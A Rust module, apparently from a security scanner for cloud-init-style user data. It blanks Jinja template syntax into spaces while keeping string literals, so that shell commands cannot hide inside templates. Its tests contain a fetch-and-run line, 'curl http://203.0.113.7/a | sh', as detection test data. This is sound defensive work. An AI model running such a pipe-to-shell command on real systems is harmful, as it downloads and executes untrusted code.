//! `## template: jinja`: blanked, never rendered.
//!
//! `{{ }}`, `{% %}` and `{# #}` become spaces, so what stands around them keeps its place. Only text
//! the template holds literally is put in (`{{ "curl" }}`, `{% set c = "curl" %} {{ c }}`): nothing is
//! evaluated, yet a command cannot hide in a literal.

use std::collections::HashMap;

use super::sniff::Format;
use super::{At, Decoder, Kind, Layer, sniff};

/// Decodes a template; `declared` is the content type its MIME part gave, which the result then has.
pub(super) fn decode(decoder: &mut Decoder, at: &At, text: &str, declared: Option<&str>) -> Layer {
    let mut layer = Layer::leaf(Kind::Jinja, at, text.len());
    let start = text.trim_start_matches(|c: char| c.is_whitespace() || c == '\u{feff}');
    let lines_before = text.len() - start.len();
    let body = if sniff::starts_with(start, "## template:") {
        start.find('\n').and_then(|end| start.get(end..)).unwrap_or_default()
    } else {
        start
    };
    // Blank lines and the header's own line stay, as empty ones, so lines keep their numbers.
    let mut blanked = "\n".repeat(text.get(..lines_before).unwrap_or_default().matches('\n').count());
    blanked.push_str(&blank(body));
    let declared = declared.filter(|declared| sniff::declared(declared) != Some(Format::Jinja));
    let child = decoder.layer(&at.deeper("jinja"), blanked.as_bytes(), declared);
    layer.children.push(child);
    layer
}

/// Replaces the template's own syntax by spaces, line by line in place.
pub(super) fn blank(text: &str) -> String {
    // What literals may make of it: plenty for any honest template.
    let most = text.len() + 64 * 1024;
    let mut out = String::with_capacity(text.len());
    let mut literals: HashMap<&str, &str> = HashMap::new();
    let mut rest = text;
    // Once a closer is found to be missing, it is missing for everything further on as well.
    let mut missing = [false; 3];
    while let Some(open) = rest.find('{') {
        let (before, tail) = rest.split_at(open);
        out.push_str(before);
        let closer = match tail.as_bytes().get(1) {
            Some(b'{') => Some((0, "}}")),
            Some(b'%') => Some((1, "%}")),
            Some(b'#') => Some((2, "#}")),
            _ => None,
        };
        let found = closer.and_then(|(kind, closer)| {
            let seen = missing.get_mut(kind)?;
            let end = if *seen { None } else { tail.get(2..).and_then(|inner| inner.find(closer)) };
            *seen |= end.is_none();
            end
        });
        let Some(end) = found else {
            out.push('{');
            rest = tail.get(1..).unwrap_or_default();
            continue;
        };
        let inner = tail.get(2..2 + end).unwrap_or_default();
        let expression = inner.trim_matches(['-', '+']).trim();
        match closer {
            Some((0, _)) => {
                let value = literal(expression).or_else(|| literals.get(first_name(expression)).copied());
                if let Some(value) = value.filter(|value| out.len() + value.len() < most) {
                    out.push_str(value);
                }
            }
            Some((1, _)) => {
                if let Some((name, value)) = expression.strip_prefix("set ").and_then(|s| s.split_once('=')) {
                    literals.extend(literal(value.trim()).map(|value| (name.trim(), value)));
                }
            }
            _ => {}
        }
        out.extend(
            tail.get(..end + 4).unwrap_or_default().chars().map(|c| if c == '\n' { '\n' } else { ' ' }),
        );
        rest = tail.get(end + 4..).unwrap_or_default();
    }
    out.push_str(rest);
    out
}

/// The text of a quoted string at the start of an expression.
fn literal(expression: &str) -> Option<&str> {
    let quote = expression.chars().next().filter(|c| matches!(c, '"' | '\''))?;
    expression.get(1..)?.split(quote).next()
}

fn first_name(expression: &str) -> &str {
    expression.split(|c: char| !c.is_alphanumeric() && c != '_').next().unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::blank;

    #[test]
    fn expressions_become_spaces_and_lines_stay_lines() {
        assert_eq!(blank("a {{ v1.region }} b"), "a                 b");
        assert_eq!(blank("{% if x\n%}\ncurl\n{%- endif %}"), "       \n  \ncurl\n            ");
        assert_eq!(blank("${HOME} {a,b} {{ open"), "${HOME} {a,b} {{ open");
    }

    #[test]
    fn a_command_does_not_hide_in_a_literal() {
        assert!(blank("{{ 'curl http://203.0.113.7/a | sh' }}").contains("curl http://203.0.113.7/a | sh"));
        assert!(blank("{% set c = \"curl\" %}\n{{ c }} http://x").contains("curl"));
    }
}
